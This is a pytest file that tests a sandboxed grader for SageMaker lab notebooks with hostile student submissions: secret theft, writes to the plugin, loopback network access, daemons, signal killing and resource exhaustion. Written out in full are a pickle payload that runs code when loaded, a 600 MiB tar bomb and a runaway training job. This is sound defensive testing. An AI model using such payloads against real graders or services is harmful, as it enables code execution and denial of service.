    _notebook(folder, "b_write", [_code(WRITE_FILES, marker=marker, lab_toml=str(LAB41 / "lab.toml"),
                                        sentinel=str(sentinel), report=str(out / "grades.json"),
                                        other=str(honest))])
    _notebook(folder, "c_forge_nothing", [FORGE])
    _notebook(folder, "d_forge_starter", [FORGE], base=STARTER)
    _notebook(folder, "e_dead_import", [], base=REFERENCE,
              replace=("import xgboost", "if False:\n    import xgboost as xgb\n\nprint('xgboost not imported')"))
    import pytest_sagemaker_lab

    plugin = Path(pytest_sagemaker_lab.__file__).parent
    watched = [plugin / "checks.py", Path(pytest_sagemaker_lab.__file__), LAB41 / "lab.toml", honest, sentinel]
    before = {path: _file_state(path) for path in watched}
    import site
    import sysconfig

    folders = [plugin, plugin / "grading" / "__pycache__", LAB41, Path(site.getsitepackages()[0]),
               Path(sysconfig.get_paths()["stdlib"]), out / "executed", folder]
    try:
        graded = _grade(tmp_path, folder, env={"AWS_SECRET_ACCESS_KEY": secret, "GITHUB_TOKEN": token,
                                               "HOME": str(home)})
    finally:
        created = [path for place in folders if (path := place / f"{marker}.txt").exists()]
        for path in created:
            path.unlink()
    findings = Findings()
    findings.start(graded)

    # nothing of the grader's reached the learner, nor anything the grader wrote.
    for value in (secret, token, credential, note):
        for variant in _variants(value):
            for where, text in graded.written():
                if where == str(notes):
                    continue  # the grader's own file
                findings.check(variant not in text, f"a secret of the grader's ({value[:22]}...) is in {where}")
    steal = graded.results("a_steal")
    for what in ("grader_credentials", "grader_notes", "other_submission", "lab_solution", "plugin_tests"):
        findings.result("a_steal", what, "refused", f"reading {what}")
    findings.check(steal.get("report_folder") == "absent", f"a_steal: the report folder is visible: {steal}")
    findings.verdict("a_steal", NOTHING_OUTCOMES, 1, None)

    # every write failed, and nothing changed.
    writes = graded.results("b_write")
    findings.check(len(writes) >= 15, f"b_write: it did not report every write: {writes}")
    for what, said in writes.items():
        if what != "site_packages_path":
            findings.check(said.startswith("refused"), f"b_write: {what}: {said}")
    for path, state in before.items():
        findings.check(_file_state(path) == state, f"{path} was changed by a submission")
    findings.check(not created, f"files created by a submission: {created}")
    findings.verdict("b_write", NOTHING_OUTCOMES, 1, None)

    # forgeries earn nothing; a dead import is no import.
    findings.result("c_forge_nothing", "forged", "all in place", "the forgeries were not all in place")
    findings.verdict("c_forge_nothing", NOTHING_OUTCOMES, 1, None,
                     {"libomp_present": "never imports xgboost",
                      "sagemaker_sdk_compatible": "uses neither the SageMaker SDK nor boto3's SageMaker client"})
    findings.result("d_forge_starter", "forged", "all in place", "the forgeries were not all in place")
    findings.verdict("d_forge_starter", STARTER_OUTCOMES, 0, None, {"libomp_present": "never imports xgboost"})
    findings.verdict("e_dead_import", (F, S, P, P, P, P, P), 5, None, {"libomp_present": "never imports xgboost"})
    for name in graded.rows:
        for stage in graded.rows[name]["stages"]:
            findings.check("forged" not in (stage.get("message") or ""), f"{name}: {stage['id']}: {stage['message']}")

    # The honest submissions, graded after them all.
    findings.honest("z_reference")
    findings.verdict("z_starter", STARTER_OUTCOMES, 0, None)
    findings.done()


def test_network_output_flood_and_daemons(tmp_path):
    """A submission tries every way to reach the host's loopback (a TCP listener, a UDP
    socket and an abstract Unix socket of this test's); one prints 20 MiB; one leaves daemons behind
    (a new session, a double fork) that would delete the next submissions' data and overwrite the
    report. Nothing gets through, the executed notebook stays small, no daemon outlives its
    submission, and the honest notebooks graded after them get full marks."""
    folder = tmp_path / "class"
    folder.mkdir()
    key = uuid.uuid4().hex[:10]
    marker = f"sml-attack-daemon-{key}"
    out = tmp_path / "out"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    abstract_name = f"\0sml-attack-{key}"
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind(abstract_name)
    abstract.listen(8)
    abstract.settimeout(0.2)
    arrived: list[str] = []
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            for server, what in ((listener, "tcp"), (abstract, "abstract unix")):
                with contextlib.suppress(OSError):
                    connection, _ = server.accept()
                    arrived.append(what)
                    connection.close()
            with contextlib.suppress(OSError):
                arrived.append(f"udp {udp.recvfrom(64)[0]!r}")

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    _notebook(folder, "a_network", [_code(NETWORK, port=listener.getsockname()[1], udp=udp.getsockname()[1],
                                          abstract=abstract_name)])
    _notebook(folder, "b_flood", [FLOOD], base=REFERENCE)
    _notebook(folder, "y_daemons", [_code(DAEMONS, marker=marker, report=str(out / "grades.json"),
                                          csv=str(out / "grades.csv"))])
    _copy(folder, "z_reference_1", REFERENCE)
    _copy(folder, "z_reference_2", REFERENCE)
    try:
        graded = _grade(tmp_path, folder, markers=[marker])
    finally:
        stop.set()
        watcher.join(5)
        for server in (listener, udp, abstract):
            server.close()
    findings = Findings()
    findings.start(graded)

    # its own loopback only.
    network = graded.results("a_network")
    findings.check(network.get("interfaces") == "lo", f"a_network: interfaces {network.get('interfaces')!r}")
    findings.check(network.get("proc_net_dev") == "lo", f"a_network: /proc/net/dev {network.get('proc_net_dev')!r}")
    findings.check(network.get("routes") == "0", f"a_network: {network.get('routes')} route(s)")
    for what in ("tcp_socket", "tcp_raw_socket", "tcp_libc", "tcp_bash", "tcp_python_isolated", "abstract_unix"):
        findings.result("a_network", what, "refused", f"connecting ({what}) to the host's loopback")
    findings.check(not arrived, f"the host's listeners received from a submission: {arrived}")
    findings.verdict("a_network", NOTHING_OUTCOMES, 1, None)

    # the flood is cut, the notebook keeps its grade.
    flood = graded.out / "executed" / "b_flood.ipynb"
    size = flood.stat().st_size if flood.exists() else -1
    findings.check(0 < size < 2 * MIB, f"b_flood: the executed notebook is {size} bytes")
    findings.check("output past 1024 KiB is not kept" in graded.printed("b_flood"),
                   "b_flood: no notice that the output was cut")
    findings.honest("b_flood")
    findings.check(len(graded.stdout) + len(graded.stderr) < MIB, "the flood reached the grader's own output")
    report_size = (graded.out / "grades.json").stat().st_size if (graded.out / "grades.json").exists() else 0
    findings.check(report_size < 512 * 1024, f"the report is {report_size} bytes")

    # no daemon outlived its submission; the next ones were not touched; the report is intact.
    findings.result("y_daemons", "double_fork_daemon", "started", "the daemons were not started")
    daemons = [command.split()[-3] for command in graded.survivors.values() if marker in command]
    findings.check(not daemons, f"daemons outlived their submission: {daemons}")
    findings.no_survivors("the whole class")
    findings.check(set(graded.rows) == {"a_network", "b_flood", "y_daemons", "z_reference_1", "z_reference_2"},
                   f"rows: {sorted(graded.rows)}")
    findings.verdict("y_daemons", error=None)
    findings.honest("z_reference_1", "z_reference_2")
    findings.done()


def test_signals_and_neighbours_with_two_workers(tmp_path):
    """Under -n 2: submissions SIGKILL their parent (and the pid the kernel was told is
    its parent), their process group, every process they can (-1); another looks for its neighbours:
    their processes, their kernels' connection files, their moto server, moto's control API. The run
    completes, each submission has its row, the killer of its own group alone dies, and the honest
    notebooks get full marks."""
    folder = tmp_path / "class"
    folder.mkdir()
    _notebook(folder, "a_kill_parent", [KILL_PARENT], base=REFERENCE, at=0)
    _notebook(folder, "b_kill_group", [KILL_GROUP], base=REFERENCE, at=0)
    _notebook(folder, "c_kill_all", [KILL_ALL], base=REFERENCE, at=0)
    _notebook(folder, "d_neighbours", [NEIGHBOURS], base=REFERENCE)
    for n in (1, 2, 3):
        _copy(folder, f"ref_{n}", REFERENCE)
    graded = _grade(tmp_path, folder, "-n", "2", "-v")
    findings = Findings()
    findings.start(graded)
    findings.check(set(graded.rows) == {"a_kill_parent", "b_kill_group", "c_kill_all", "d_neighbours", "ref_1",
                                        "ref_2", "ref_3"}, f"rows: {sorted(graded.rows)}")
    workers = set(re.findall(r"^\[(gw\d)\] ", graded.stdout, re.M))
    findings.check(workers == {"gw0", "gw1"}, f"workers that graded: {workers}")

    # signals reach nothing of the grader's.
    findings.result("a_kill_parent", "alive_after", "yes", "killing its parent")
    findings.verdict("a_kill_parent", FULL_MARKS, 7, None)
    findings.result("b_kill_group", "killpg_own_group", lambda value: value != "no effect", "killpg")
    findings.verdict("b_kill_group", score=2, error="the kernel died", outcomes=(F, S, P, P, F, F, S))
    findings.result("c_kill_all", "kill_all", "refused ProcessLookupError", "kill(-1): something could be signalled")
    findings.result("c_kill_all", "alive_after", "yes", "kill(-1)")
    findings.verdict("c_kill_all", FULL_MARKS, 7, None)

    # no neighbour in sight, the control API refused.
    neighbours = graded.results("d_neighbours")
    findings.result("d_neighbours", "pids", lambda value: int(value) <= 4, "the processes it can see")
    findings.result("d_neighbours", "other_processes", "0", "processes not its own it can see")
    findings.result("d_neighbours", "kernels_seen", "1", "kernels it can see")
    findings.result("d_neighbours", "foreign_connection_files", "0 ", "other kernels' connection files")
    findings.result("d_neighbours", "bridge_listens", "True", "its bridge to its AWS world")
    findings.result("d_neighbours", "foreign_listeners", "0 ", "TCP listeners not its own it can see")
    for what in [key for key in neighbours if key.startswith(("api:", "raw:"))]:
        findings.check(neighbours[what] in ("403", "404"), f"d_neighbours: {what} -> {neighbours[what]}")
    findings.check(neighbours.get("api:/moto-api/reset") == "403",
                   f"d_neighbours: moto's reset answered {neighbours.get('api:/moto-api/reset')!r}, not 403")
    findings.result("d_neighbours", "buckets_after", lambda value: "sagemaker-lab-data" in value.split(","),
                    "the world after its reset attempts")
    findings.verdict("d_neighbours", FULL_MARKS, 7, None)
    findings.honest("ref_1", "ref_2", "ref_3")
    findings.done()


def test_a_submission_that_swallows_every_interrupt_is_timed_out_in_bounded_time(tmp_path):
    """``except BaseException`` around a sleep loop, and a child in a session of its own that
    ignores every signal it can: with --lab-timeout=5 --lab-kill-grace=2 it is reported as timed out,
    nothing of it outlives the run, the run ends promptly and the next submission is graded."""
    folder = tmp_path / "class"
    folder.mkdir()
    marker = f"sml-attack-swallow-{uuid.uuid4().hex[:10]}"
    _notebook(folder, "a_swallows", ["x = 1", _code(SWALLOW, marker=marker), "print('RESULT after: ran')"])
    _copy(folder, "b_starter", STARTER)
    graded = _grade(tmp_path, folder, "--lab-timeout=5", "--lab-kill-grace=2", markers=[marker],
                    limit=120)
    findings = Findings()
    findings.start(graded)
    findings.verdict("a_swallows", error="timed out after 5 s")
    findings.check(graded.rows.get("a_swallows", {}).get("error") == "timed out after 5 s",
                   f"a_swallows: error {graded.rows.get('a_swallows', {}).get('error')!r}, not exactly the time-out")
    findings.check("after" not in graded.results("a_swallows"), "a_swallows: its last cell ran")
    findings.check(graded.elapsed < 60, f"the run took {graded.elapsed:.0f} s")
    findings.no_survivors("a_swallows (its kernel or its child)")
    findings.verdict("b_starter", STARTER_OUTCOMES, 0, None)
    findings.done()


def test_limits_hold_and_the_class_survives(tmp_path):
    """8 GiB of memory (--lab-max-memory 4096), a 40 MiB file (--lab-max-file-size=32), every
    writable folder filled (--lab-max-disk=64), a bounded fork bomb of 2000 ``sleep`` children
    (--lab-max-processes=128): each stops at its limit, and the reference graded after them gets full
    marks. (The file and disk limits are small: a submission's /tmp and HOME are tmpfs, held in memory.)"""
    folder = tmp_path / "class"
    folder.mkdir()
    _notebook(folder, "a_memory", [MEMORY])
    _notebook(folder, "b_big_file", [BIG_FILE])
    _notebook(folder, "c_fill_disk", [FILL_DISK])
    _notebook(folder, "d_fork_bomb", [FORK_BOMB])
    _copy(folder, "z_reference", REFERENCE)
    graded = _grade(tmp_path, folder, "--lab-max-memory=4096", "--lab-max-processes=128", "--lab-max-file-size=32",
                    "--lab-max-disk=64")
    findings = Findings()
    findings.start(graded)
    findings.result("a_memory", "mmap_8g", "refused", "mapping 8 GiB")
    findings.result("a_memory", "bytearray_8g", "MemoryError", "allocating 8 GiB")
    findings.result("b_big_file", "big_file", lambda value: value == "32 MiB EFBIG", "writing a 40 MiB file")
    fills = {key: value for key, value in graded.results("c_fill_disk").items() if key.startswith("fill:")}
    findings.check(len(fills) >= 2, f"c_fill_disk: it found {sorted(fills)}")
    for where, said in fills.items():
        mib, ended = said.split(" MiB ")
        findings.check(int(mib) <= 64 and ended == "ENOSPC",
                       f"c_fill_disk: {where[5:]} took {mib} MiB ({ended}); --lab-max-disk is 64 MiB")
    started = graded.results("d_fork_bomb").get("started")
    findings.check(started is not None and int(started) < 128, f"d_fork_bomb: {started} children started")
    findings.result("d_fork_bomb", "refused", lambda value: int(value.split()[0]) > 1800, "children refused")
    for name in ("a_memory", "b_big_file", "c_fill_disk", "d_fork_bomb"):
        findings.verdict(name, NOTHING_OUTCOMES, 1, None)
    findings.check(subprocess.run(["true"], check=False).returncode == 0, "this machine can start no process")
    findings.honest("z_reference")
    findings.done()


def test_a_python_submission_can_neither_write_beside_its_kernel_nor_forge_which_cells_ran(tmp_path):
    """A .py submission runs its cells in a kernel, as a notebook does. One tries to leave a FIFO and a
    file in the runtime folder beside its kernel's connection file (on the grader's disk): refused. One
    says all went well and exits before its import cell: graded on the cells that ran (it never
    imported xgboost), with the kernel's death as its error. The reference after them gets full marks."""
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "a_runtime.py").write_text(RUNTIME_PY)
    (folder / "b_exits_early.py").write_text(EXITS_EARLY_PY)
    _copy(folder, "z_reference", REFERENCE)
    graded = _grade(tmp_path, folder, limit=120)
    findings = Findings()
    findings.start(graded)
    findings.result("a_runtime", "fifo", lambda value: value.startswith("refused"), "a FIFO beside the kernel")
    findings.result("a_runtime", "write", lambda value: value.startswith("refused"), "a file beside the kernel")
    findings.verdict("b_exits_early", error="the kernel died while running the notebook",
                     messages={"libomp_present": "never imports xgboost"})
    findings.check(graded.outcomes("b_exits_early")[:2] == (F, S), f"b_exits_early: {graded.rows.get('b_exits_early')}")
    findings.honest("z_reference")
    findings.done()


MODEL_FILE_ATTACKS = """
import io, pickle, tarfile, time
import boto3

marker = $marker
sm, s3 = boto3.client("sagemaker", region_name=region), boto3.client("s3", region_name=region)
image = "683313688378.dkr.ecr." + region + ".amazonaws.com/sagemaker-xgboost:1.2-2"


class Payload:  # unpickled, it would write a file where only the grader can
    def __reduce__(self):
        return (io.open, (marker, "w"))


class Zeros(io.RawIOBase):  # 600 MiB of zeros, streamed into the archive (~0.6 MiB gzipped)
    def __init__(self, size):
        self.left = size

    def readable(self):
        return True

    def readinto(self, buffer):
        count = min(len(buffer), self.left)
        buffer[:count] = bytes(count)
        self.left -= count
        return count


def archive(name, data=None, size=0):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        info = tarfile.TarInfo("xgboost-model")
        info.size = len(data) if data is not None else size
        tar.addfile(info, io.BytesIO(data) if data is not None else io.BufferedReader(Zeros(size)))
    s3.put_object(Bucket=bucket_name, Key="attack/" + name + "/model.tar.gz", Body=buffer.getvalue())
    sm.create_model(ModelName=name, ExecutionRoleArn=role_arn, PrimaryContainer={
        "Image": image, "ModelDataUrl": "s3://" + bucket_name + "/attack/" + name + "/model.tar.gz"})
    s3.put_object(Bucket=bucket_name, Key="attack/rows.csv", Body=b"1,2\\n3,4\\n")
    sm.create_transform_job(TransformJobName=name, ModelName=name, TransformInput={"DataSource": {
        "S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://" + bucket_name + "/attack/rows.csv"}},
        "ContentType": "text/csv"}, TransformOutput={"S3OutputPath": "s3://" + bucket_name + "/attack/out"},
        TransformResources={"InstanceType": "ml.m5.xlarge", "InstanceCount": 1})
    for _ in range(600):
        job = sm.describe_transform_job(TransformJobName=name)
        if job["TransformJobStatus"] not in ("InProgress", "Stopping"):
            return job["TransformJobStatus"] + " " + job.get("FailureReason", "")
        time.sleep(0.1)
    return "still running"


print("RESULT pickle:", archive("pickled-code", pickle.dumps(Payload())))
print("RESULT bomb:", archive("tar-bomb", size=600 << 20))
logs = boto3.client("logs", region_name=region)
for stream in logs.describe_log_streams(logGroupName="/aws/sagemaker/TransformJobs",
                                        logStreamNamePrefix="tar-bomb/")["logStreams"]:
    for event in logs.get_log_events(logGroupName="/aws/sagemaker/TransformJobs",
                                     logStreamName=stream["logStreamName"])["events"]:
        if "Unable to load model" in event["message"]:
            print("RESULT bomb_log:", event["message"])
"""


LEFT_RUNNING = """
import boto3

sm = boto3.client("sagemaker", region_name=region)
sm.create_training_job(
    TrainingJobName="a-million-rounds", RoleArn=role_arn,
    AlgorithmSpecification={"TrainingInputMode": "File", "TrainingImage":
                            "683313688378.dkr.ecr." + region + ".amazonaws.com/sagemaker-xgboost:1.2-2"},
    InputDataConfig=[{"ChannelName": "train", "ContentType": "text/csv", "DataSource": {"S3DataSource": {
        "S3DataType": "S3Prefix", "S3Uri": "s3://" + bucket_name + "/" + prefix + "/train-pass1.csv"}}}],
    OutputDataConfig={"S3OutputPath": "s3://" + bucket_name + "/left/"},
    ResourceConfig={"InstanceType": "ml.m5.xlarge", "InstanceCount": 1, "VolumeSizeInGB": 5},
    StoppingCondition={"MaxRuntimeInSeconds": 86400},
    HyperParameters={"num_round": "1000000", "objective": "binary:logistic", "max_depth": "12"})
print("RESULT left:", sm.describe_training_job(TrainingJobName="a-million-rounds")["TrainingJobStatus"])
"""


def test_a_model_file_runs_no_code_and_unpacks_no_bomb_in_the_grader(tmp_path):
    """A learner's model.tar.gz is unpacked and loaded by the grader's emulation, outside the sandbox: a
    pickle that would run code there only fails to load, and an archive that unpacks to 600 MiB is refused
    before it is unpacked; the transforms fail as a container that cannot load its model fails them. A
    training job of a million rounds left running when the notebook ends is stopped with its world: the
    class's grading does not wait for it (the world's end would otherwise wait 60 s, then leave it running)."""
    folder = tmp_path / "class"
    folder.mkdir()
    marker = tmp_path / "unpickled-in-the-grader"
    _notebook(folder, "a_model_files", [_code(MODEL_FILE_ATTACKS, marker=str(marker))])
    _notebook(folder, "b_left_running", [LEFT_RUNNING])
    _copy(folder, "z_reference", REFERENCE)
    graded = _grade(tmp_path, folder)
    findings = Findings()
    findings.start(graded)
    failed = "Failed AlgorithmError: See job logs for more information"
    findings.result("a_model_files", "pickle", failed, "a pickled payload as the model")
    findings.result("a_model_files", "bomb", failed, "a 600 MiB archive as the model")
    findings.result("a_model_files", "bomb_log", lambda said: "more than the offline emulation's limit" in said,
                    "the 600 MiB archive was unpacked")
    findings.check(not marker.exists(), "the pickled payload ran in the grader: it wrote " + str(marker))
    findings.result("b_left_running", "left", "InProgress", "a training job left running")
    findings.check(graded.elapsed < 45, f"grading took {graded.elapsed:.0f} s: a job left running was waited for")
    findings.honest("z_reference")
    findings.done()
